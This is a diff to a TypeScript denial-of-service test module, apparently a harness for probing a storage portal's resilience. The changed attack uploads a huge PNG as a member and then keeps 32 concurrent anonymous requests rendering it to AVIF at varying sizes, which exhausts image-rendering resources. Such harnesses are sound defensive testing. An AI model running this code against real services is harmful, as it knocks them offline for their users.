@@ -1,5 +1,6 @@
 import { request } from 'node:http';
 import type { Attack, Target } from './attack.ts';
+import { largePicture } from './large-picture.ts';
 import { anonymousHeaders, keepSending, memberHeaders, send } from './send.ts';
 
 /** A PATCH of a resumable upload whose body comes a byte a second. */
@@ -38,11 +39,16 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'M12 renderings of pictures, 32 of an address',
-    run: (target, signal) => {
+    run: async (target, signal) => {
+      // As many pixels as are rendered at all, in a picture that any member may upload.
+      const path = `avatars/${target.memberId}/large.png`;
+      const headers = { ...memberHeaders(target), 'content-type': 'image/png', 'x-upsert': 'true' };
+      await send(`${target.portal}/storage/v1/object/${path}`, { method: 'POST', headers, body: largePicture(7_000) }, signal);
       let size = 0;
-      return keepSending(32, signal, (ending) => {
-        const path = `/storage/v1/render/image/public/clubs/logo.png?width=2500&height=${1_000 + ((size += 1) % 1_500)}`;
-        return send(target.portal + path, { headers: { ...anonymousHeaders(target), accept: 'image/avif' } }, ending);
+      await keepSending(32, signal, (ending) => {
+        const wanted = `width=2500&height=${1_000 + ((size += 1) % 1_500)}&format=avif`;
+        const url = `${target.portal}/storage/v1/render/image/public/${path}?${wanted}`;
+        return send(url, { headers: anonymousHeaders(target) }, ending);
       });
     },
   },
